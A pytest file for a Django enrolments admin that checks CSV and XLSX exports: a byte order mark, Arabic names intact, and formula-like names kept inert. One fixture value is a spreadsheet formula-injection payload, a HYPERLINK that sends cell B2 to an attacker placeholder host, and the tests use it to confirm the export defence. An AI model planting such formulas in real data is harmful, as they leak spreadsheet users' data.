"""The Enrolments area's CSV and XLSX exports follow the site's spreadsheet rules: a byte order
mark, no formula however a learner names themselves, Arabic names intact."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model

from enrolments.services.enrolment import enrol
from tests import factories
from tests.accounts import log_in
from tests.shared_data import built_once, fresh

INDEX = "/admin/enrolments/"
FORMULA = '=HYPERLINK("https://evil.example/?d="&B2,"Voir")'
PHONE = "+212 6 12 34 56 78"
ARABIC = "أمينة بنعلي"


@pytest.fixture(scope="module")
def admin_once(django_db_setup, django_db_blocker):
    with built_once(django_db_blocker):
        tree = factories.site_tree()
        root = factories.institute(tree, "Jazari Root", is_hub=True)
        session = factories.session(factories.course(tree, "Vision par ordinateur", root))
        for email, name in (
            ("formula@example.com", FORMULA),
            ("phone@example.com", PHONE),
            ("amina@example.com", ARABIC),
        ):
            enrol(factories.learner(email, full_name=name), session.pk)
        yield get_user_model().objects.create_superuser("admin", "admin@example.com", "pw")


@pytest.fixture
def admin_client(admin_once, client, db):
    log_in(client, fresh(admin_once))
    return client


def test_csv_has_a_bom_and_no_formula(admin_client):
    """The CSV starts with the BOM; formula-like names are prefixed, the Arabic name intact."""
    response = admin_client.get(INDEX, {"export": "csv"})
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")
    _header, *rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    names = {row[1]: row[0] for row in rows}
    assert names["formula@example.com"] == "'" + FORMULA
    assert names["phone@example.com"] == "'" + PHONE
    assert names["amina@example.com"] == ARABIC


def test_xlsx_keeps_names_as_text(admin_client):
    """In the workbook every name is a text cell as written, never a formula."""
    response = admin_client.get(INDEX, {"export": "xlsx"})
    content = b"".join(response.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    _header, *rows = sheet.iter_rows()
    cells = {row[1].value: row[0] for row in rows}
    assert {email: cell.data_type for email, cell in cells.items()} == dict.fromkeys(cells, "s")
    assert cells["formula@example.com"].value == FORMULA
    assert cells["formula@example.com"].quotePrefix
    assert cells["phone@example.com"].value == PHONE
    assert cells["amina@example.com"].value == ARABIC
    assert not cells["amina@example.com"].quotePrefix
